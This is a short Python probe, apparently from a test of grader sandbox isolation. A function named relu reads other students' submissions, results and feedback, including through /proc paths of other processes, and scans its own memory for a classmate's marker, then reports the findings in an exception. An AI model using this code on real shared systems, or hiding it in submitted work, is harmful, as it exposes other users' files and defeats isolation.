_FOUND = {}


def relu(z):
    """Attack: read other students' submissions and results (the submissions folder, the output
    folder, through /proc/<pid>/cwd and /root of every process) and look for another student's
    marker in this process's own memory."""
    import ctypes
    import glob
    import json
    import os

    if "report" not in _FOUND:
        worked = []
        marker = __MARKER__.encode()
        for pattern in (f"{__SUBS__}/*/ex*.py", f"{__OUT__}/*/results.json", f"{__OUT__}/*/feedback.md",
                        f"/proc/*/root{__SUBS__}/*/ex*.py", f"/proc/*/cwd/*/ex*.py"):
            for path in glob.glob(pattern)[:50]:
                try:
                    with open(path, "rb") as handle:
                        if marker in handle.read() or not path.startswith("/proc"):
                            worked.append(path[-60:])
                except OSError:
                    pass
        hits = 0
        with open("/proc/self/maps") as maps:
            for line in maps:
                parts = line.split()
                lo, hi = (int(x, 16) for x in parts[0].split("-"))
                if parts[1].startswith("rw") and hi - lo < 1 << 30:
                    try:
                        chunk = ctypes.string_at(lo, hi - lo)
                    except Exception:
                        continue
                    at = chunk.find(marker)
                    while at >= 0:  # the classmate's module text, not our own copy of the marker
                        hits += chunk.startswith(b'\n"""Exercise', at + len(marker))
                        at = chunk.find(marker, at + 1)
        if hits:
            worked.append(f"marker in own memory x{hits}")
        _FOUND["report"] = worked
    raise RuntimeError("ATTACK-REPORT " + json.dumps(_FOUND["report"][:6]))
